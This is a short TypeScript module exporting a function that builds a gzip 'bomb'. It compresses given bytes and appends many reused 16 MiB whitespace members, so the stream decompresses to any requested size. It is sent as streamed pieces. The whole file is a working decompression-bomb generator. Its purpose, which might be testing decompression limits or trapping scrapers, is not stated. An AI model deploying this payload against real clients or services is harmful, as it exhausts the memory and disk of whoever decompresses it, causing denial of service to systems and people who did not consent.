import { promisify } from "node:util";
import { gzip } from "node:zlib";

const compress = promisify(gzip);
const MEMBER_BYTES = 16 * 1024 * 1024;

let blankMember: Promise<Buffer> | undefined;

/** gzip that says the same as the bytes with white space after them, in pieces that are sent one after the other. */
export interface GzipBomb {
  readonly length: number;
  pieces(): Iterable<Buffer>;
}

/**
 * Makes gzip that becomes `total` bytes. A gzip stream may have many members (RFC 1952, section 2.2), so that one member
 * of white space, made once, serves for any length.
 */
export async function gzipBomb(bytes: Buffer, total: number): Promise<GzipBomb> {
  blankMember ??= compress(Buffer.alloc(MEMBER_BYTES, " "), { level: 9 });
  const blank = Math.max(0, total - bytes.length);
  const count = Math.floor(blank / MEMBER_BYTES);
  const [first, member, last] = await Promise.all([
    compress(bytes),
    blankMember,
    compress(Buffer.alloc(blank % MEMBER_BYTES, " "), { level: 9 }),
  ]);
  return {
    length: first.length + count * member.length + last.length,
    *pieces() {
      yield first;
      for (let sent = 0; sent < count; sent++) yield member;
      yield last;
    },
  };
}
